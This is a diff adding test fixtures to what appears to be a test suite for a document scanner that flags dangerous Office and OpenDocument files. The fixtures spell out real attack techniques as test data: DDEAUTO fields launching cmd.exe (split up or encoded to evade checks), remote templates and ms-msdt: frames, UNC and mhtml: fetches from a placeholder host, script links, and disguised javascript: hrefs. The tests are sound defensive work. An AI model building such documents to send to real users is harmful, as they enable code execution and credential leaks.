@@ -13,6 +13,7 @@ from tests.documents.builders import (
     renamed_inside,
 )
 
+FETCHING = '<svg xmlns="http://www.w3.org/2000/svg"><use href="https://198.51.100.7/a.svg#a"/></svg>'
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 HTML = b"<html><script>alert(1)</script></html>"
 LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{}]><x>&j;</x>'.format(
@@ -23,6 +24,45 @@ EXCHANGE = f"<w:document {W}><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w
 OTHER_MACROS = '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
 PACKAGE = b"\xd0\xcf" + "\x01Ole10Native".encode("utf-16-le")
 SWOLLEN = ("xl/x.xml", b"<a>" + b" " * (12 << 20) + b"</a>")
+
+MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+SHEET_MACROS = '<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
+SPELLED_MACROS = SHEET_MACROS.replace("macrosheet", "macro&#115;heet")
+
+
+def field(*pieces):
+    """The main part of a text with one field, whose instruction comes in pieces; a tuple is a field inside it."""
+    return f"<w:document {W}><w:body><w:p>{_runs(pieces)}</w:p></w:body></w:document>"
+
+
+def _runs(pieces):
+    inside = "".join(
+        _runs(piece) if isinstance(piece, tuple) else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
+        for piece in pieces
+    )
+    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+    return f"{begin}{inside}{end}"
+
+
+def text_with(body):
+    return lambda: office_file("docx", body=body)
+
+
+def related(kind, target, mode="External"):
+    """A text with a relation of a kind to a target."""
+    part = relation(kind, target).replace('"External"', f'"{mode}"')
+    return lambda: office_file("docx", ("word/_rels/document.xml.rels", part))
+
+
+def open_text_with(inside):
+    return lambda: open_file("text", inside=inside)
+
+
+def named_otherwise():
+    """A text whose main part has no name of XML."""
+    types = f'<Types><Override PartName="/word/document.dat" ContentType="{MAIN}"/></Types>'
+    return packed([("[Content_Types].xml", types), ("word/document.dat", EXCHANGE)])
+
 
 OFFICE_FILES = {
     "archive that says it swells": (
@@ -120,5 +160,91 @@ OFFICE_FILES = {
         "a.ods",
         lambda: open_file("spreadsheet", manifest="<encryption-data/>"),
         "encrypted",
+    ),
+    "text with an object of another scheme": (
+        "a.docx",
+        related("oleObject", "mhtml:http://198.51.100.7/a.html!x-usc:http://198.51.100.7/a.html"),
+        "external",
+    ),
+    "text with a template of another scheme": (
+        "a.docx",
+        related("attachedTemplate", "url:http://198.51.100.7/a.dotm"),
+        "external",
+    ),
+    "text with a template in a spelling of its own": (
+        "a.docx",
+        related("attachedTemplate", "file:///%5C%5C198.51.100.7/a.dotm"),
+        "external",
+    ),
+    "text with a frame elsewhere": ("a.docx", related("frame", "ms-msdt:/id", mode="external"), "external"),
+    "text with a page as its part": ("a.docx", related("aFChunk", "afchunk.rtf", mode="Internal"), "attachment"),
+    "text that exchanges data in an attribute": (
+        "a.docx",
+        text_with(f'<w:document {W}><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/></w:document>'),
+        "macros",
+    ),
+    "text that exchanges data in pieces": ("a.docx", text_with(field("D", "DEAU", "TO c:\\\\cmd.exe")), "macros"),
+    "text that exchanges data by numbers": (
+        "a.docx",
+        text_with(field(("QUOTE 68 68 69",), " c:\\\\cmd.exe")),
+        "macros",
+    ),
+    "text that exchanges data inside a field": (
+        "a.docx",
+        text_with(field("IF ", ("DDE c:\\\\cmd.exe",), " = 1")),
+        "macros",
+    ),
+    "text that includes an image elsewhere": (
+        "a.docx",
+        text_with(field('INCLUDEPICTURE "http://198', '.51.100.7/x.png" \\d')),
+        "external",
+    ),
+    "text that includes a text of a server": (
+        "a.docx",
+        text_with(field("INCLUDETEXT “\\\\\\\\198.51.100.7\\\\x.docx”")),
+        "external",
+    ),
+    "text that includes what a field says": (
+        "a.docx",
+        text_with(field('INCLUDEPICTURE "ht', ('QUOTE "tp:x"',), '"')),
+        "external",
+    ),
+    "text whose main part has another name": ("a.docx", named_otherwise, "macros"),
+    "text of types with a DOCTYPE": (
+        "a.docx",
+        lambda: packed([("[Content_Types].xml", PASSWD), ("word/document.xml", "<a/>")]),
+        "structure",
+    ),
+    "sheet of old macros": ("a.xlsx", lambda: office_file("xlsx", ("xl/x.xml", "<a/>"), types=SHEET_MACROS), "macros"),
+    "sheet of old macros spelled otherwise": (
+        "a.xlsx",
+        lambda: office_file("xlsx", ("xl/x.xml", "<a/>"), types=SPELLED_MACROS),
+        "macros",
+    ),
+    "open text with an image of another scheme": (
+        "a.odt",
+        open_text_with('<draw:image xlink:href="vnd.sun.star.webdav://198.51.100.7/x.png"/>'),
+        "external",
+    ),
+    "open text with a background elsewhere": (
+        "a.odt",
+        open_text_with(f'<draw:fill-image xlink:href="{ELSEWHERE}"/>'),
+        "external",
+    ),
+    "open text with a link that runs": (
+        "a.odt",
+        open_text_with('<text:a xlink:href="vnd.sun.star.script:../x.py$run?language=Python">x</text:a>'),
+        "macros",
+    ),
+    "open text with a link in disguise": (
+        "a.odt",
+        open_text_with('<draw:area-circle xlink:href=" java&#10;script:alert(1)"/>'),
+        "macros",
+    ),
+    "open text that exchanges data": ("a.odt", open_text_with('<office:dde-source office:dde-item="x"/>'), "macros"),
+    "text with a drawing that fetches": (
+        "a.docx",
+        lambda: office_file("docx", ("word/media/a.svg", FETCHING)),
+        "external",
     ),
 }
